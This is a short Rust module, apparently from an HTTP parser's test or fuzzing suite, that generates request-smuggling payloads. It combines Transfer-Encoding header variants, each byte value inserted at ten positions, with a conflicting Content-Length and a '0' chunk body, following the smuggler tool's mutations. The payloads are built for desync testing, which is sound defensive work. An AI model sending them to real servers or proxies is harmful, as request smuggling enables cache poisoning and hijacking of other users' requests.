//! Every byte in every place around a `Transfer-Encoding` beside a `Content-Length` (after defparam/smuggler's mutations).

/// What the length says; a reader of chunks would end after its first five bytes.
pub(crate) const BODY: &str = "0\r\n\r\nX";

pub(crate) fn payloads() -> impl Iterator<Item = Vec<u8>> {
    (0..=u8::MAX).flat_map(|byte| {
        let around: [(&[u8], &[u8]); 10] = [
            (b"Transfer-Encoding:", b"chunked"),
            (b"Transfer-Encoding", b": chunked"),
            (b"", b"Transfer-Encoding: chunked"),
            (b"Transfer-Encoding: chunked", b""),
            (b"Transfer-Encoding: chu", b"nked"),
            (b"X: X", b"Transfer-Encoding: chunked"),
            (b"Transfer-Encoding: chunked", b"X: X"),
            (b"X: X\r", b"Transfer-Encoding: chunked"),
            (b"X: X", b"\nTransfer-Encoding: chunked"),
            (b"Transfer", b"Encoding: chunked"),
        ];
        around.map(|(before, after)| {
            let head = b"POST /attack HTTP/1.1\r\nHost: hello.test\r\nContent-Length: 6\r\n";
            [head, before, &[byte], after, b"\r\n\r\n", BODY.as_bytes()].concat()
        })
    })
}
